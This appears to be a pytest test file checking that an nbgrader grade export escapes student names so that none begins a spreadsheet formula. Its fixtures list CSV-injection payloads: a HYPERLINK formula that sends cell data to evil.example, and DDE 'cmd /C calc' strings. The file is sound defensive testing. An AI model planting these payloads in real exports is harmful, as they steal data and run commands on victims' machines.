"""`nbgrader export` writes a file in which nobody's name is a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.nbgrader_plugins.export import COLUMNS, safe_field

from .conftest import Class, nbgrader

NAMES = {
    "formula": '=HYPERLINK("http://evil.example?"&A1)',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "line": 'x\n=1+1,"y"',
    "wide": "\uff1d1+1",
}


@pytest.mark.parametrize("kind", NAMES)
def test_a_name_is_never_the_beginning_of_a_formula_or_a_line(kind: str) -> None:
    field = safe_field(NAMES[kind])
    assert field[0] not in "=+-@\t\uff1d"
    assert "\n" not in field


@pytest.mark.parametrize("value", ["Anna-Maria", "O'Neill", "Øe, Åse", -3.5, 2, 1e-07, "2026-11-21 10:00:00", "a@b.example"])
def test_an_ordinary_value_stays_as_it_is(value: object) -> None:
    assert safe_field(value) == str(value)


def test_nbgrader_export_uses_it(course: Path, tmp_path: Path) -> None:
    those = Class(course)
    those.folder("named")
    nbgrader(course, "db", "student", "add", "named", f"--last-name={NAMES['formula']}", "--first-name=Åse, B.")
    written = tmp_path / "grades.csv"
    nbgrader(course, "export", "--to", str(written))
    with written.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert tuple(rows[0]) == COLUMNS
    named = next(row for row in rows if row["student_id"] == "named")
    assert named["last_name"] == f"'{NAMES['formula']}"
    assert named["first_name"] == "Åse, B."
    assert float(named["max_score"]) == 9
